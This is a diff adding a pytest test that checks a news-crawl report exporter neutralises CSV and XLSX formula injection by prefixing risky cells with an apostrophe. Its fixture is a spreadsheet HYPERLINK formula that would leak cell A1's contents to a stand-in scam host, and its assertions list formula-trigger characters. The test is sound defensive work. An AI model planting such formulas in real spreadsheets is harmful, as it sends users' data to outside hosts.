@@ -138,3 +138,27 @@ def test_chart_is_redrawn_only_when_figures_change(sessions: sessionmaker[Sessio
     with sessions() as s:
         again = weeks_png(s, WEEK, 8, settings)
     assert again != first and png_size(again) == png_size(first)
+
+
+def test_csv_and_xlsx_cells_never_start_a_formula(sessions: sessionmaker[Session], settings: Settings) -> None:
+    """A crawled title or outlet name that looks like a formula is written as plain text (leading apostrophe)."""
+    from sqlalchemy import update
+
+    from store.models import Article, Outlet
+
+    with sessions() as s, s.begin():
+        build_week(s)
+        s.execute(update(Article).values(title='=HYPERLINK("http://lừa-đảo.example/?"&A1,"Bấm vào đây")'))
+        s.execute(update(Outlet).where(Outlet.slug == "bao-hai-phong").values(name="+84 Báo Hải Phòng"))
+    with sessions() as s:
+        paths = {p.suffix.lstrip("."): p for p in write_weekly_set(s, settings, WEEK)}
+    with paths["csv"].open(encoding="utf-8-sig", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert "'+84 Báo Hải Phòng" in cells
+    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    wb = load_workbook(paths["xlsx"])
+    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert all(ws_cell.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for ws_cell in row)
+    titles = [r[2] for r in wb[SHEET_FLAGGED].iter_rows(min_row=2, values_only=True)]
+    assert titles and all(str(t).startswith("'=HYPERLINK(") for t in titles)
+    assert not [v for v in values if isinstance(v, str) and v[:1] in {"=", "+", "-", "@", "\t", "\r"}]
